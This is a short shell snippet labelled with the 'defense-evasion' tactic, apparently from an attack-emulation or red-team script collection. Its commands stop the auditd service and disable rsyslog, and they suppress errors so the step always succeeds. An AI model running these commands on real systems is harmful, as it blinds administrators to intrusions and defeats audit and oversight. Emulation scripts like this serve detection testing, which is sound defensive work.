# tactic: defense-evasion
# stop and disable the audit and logging services
systemctl stop auditd 2>/dev/null
systemctl disable rsyslog 2>/dev/null
true
